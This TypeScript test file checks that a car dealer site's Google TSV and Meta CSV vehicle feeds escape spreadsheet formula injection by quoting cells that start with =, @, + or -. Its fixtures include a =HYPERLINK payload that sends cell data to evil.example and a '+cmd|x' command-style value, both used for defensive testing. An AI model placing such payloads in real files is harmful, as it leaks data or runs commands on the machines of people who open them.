/**
 * A dealer opening its Google or Meta vehicle feed in a spreadsheet runs no formula a car's text
 * brought: a cell starting `=`, `@`, `+` or `-` (but a number) reaches the file with a leading
 * quote, as the lead export's cells do; phone-like and negative numbers stay as they are.
 */
import { describe, expect, it } from 'vitest';
import { car as carSchema, location as locationSchema } from '../../../src/content/entities.ts';
import type { SiteInput } from '../../../src/content/site.ts';
import { GOOGLE_FEED_FILE, META_FEED_FILE, vehicleFeeds } from '../../../src/seo/feeds/index.ts';
import { toCsv, toTsv } from '../../../src/seo/feeds/table.ts';
import { dealerOf } from '../../helpers/dealer-content.ts';

const site: SiteInput = {
  id: 1,
  slug: 'acme',
  name: 'Acme Cars',
  url: 'https://www.acmecars.com.au',
  country: 'AU',
  contact: { phone: '(02) 9555 0100' },
};
const yard = locationSchema.parse({
  id: 5,
  name: 'Acme Parramatta',
  location_type: 'sales',
  primary: true,
  address: { lat: -33.81, long: 151.0, address: '1 Church St, Parramatta NSW 2150' },
  contact_detail: { phone: '(02) 9555 0199' },
});
const HYPERLINK = '=HYPERLINK("https://evil.example/?x="&A1,"Click for a deal")';
const car = carSchema.parse({
  id: 1,
  name: '2021 Toyota Corolla Ascent Sport',
  slug: 'corolla-1',
  make: 'Toyota',
  model: 'Corolla',
  badge: 'Ascent Sport',
  year: 2021,
  km: 35000,
  price: 27990,
  photos: ['/p/1.jpg'],
  photos_count: 1,
  car_type: 'used',
  vin: 'jtnku3je60j123456',
  simple_body: 'Hatch',
  simple_fuel: 'Hybrid',
  transmission: 'CVT',
  colour: 'Silver',
  location_name: 'Acme Parramatta',
  created_at_timestamp: 1700000000,
  dealercomments: HYPERLINK,
});

describe('the vehicle feeds', () => {
  const feeds = vehicleFeeds(dealerOf(site, { locations: [yard], cars: [car] }));
  const file = (name: string) => feeds.find((f) => f.name === name)!.text;

  it("keep a car's comments that start a formula as text, in the Google TSV and the Meta CSV", () => {
    const google = file(GOOGLE_FEED_FILE).split('\n')[1]!.split('\t');
    expect(google).toContainEqual(expect.stringMatching(/^'=HYPERLINK\(/));
    expect(google.some((cell) => /^[=@+-]/.test(cell))).toBe(false);
    const meta = file(META_FEED_FILE);
    expect(meta).toContain(`"'=HYPERLINK(""https://evil.example/?x=""&A1`);
    expect(meta).not.toMatch(/(^|,)"?=HYPERLINK/m);
  });

  it('quote every kind of formula start, but not a phone number or a negative number', () => {
    const table = {
      columns: ['a', 'b', 'c', 'd', 'e', 'f'],
      rows: [{ a: '@SUM(A1)', b: '+cmd|x', c: '-2+3', d: '+61 412 345 678', e: '-5', f: '\t=1+1' }],
      leftOut: [],
    };
    expect(toTsv(table).split('\n')[1]).toBe("'@SUM(A1)\t'+cmd|x\t'-2+3\t+61 412 345 678\t-5\t'=1+1");
    expect(toCsv(table).split('\n')[1]).toBe("'@SUM(A1),'+cmd|x,'-2+3,+61 412 345 678,-5,'=1+1");
  });
});
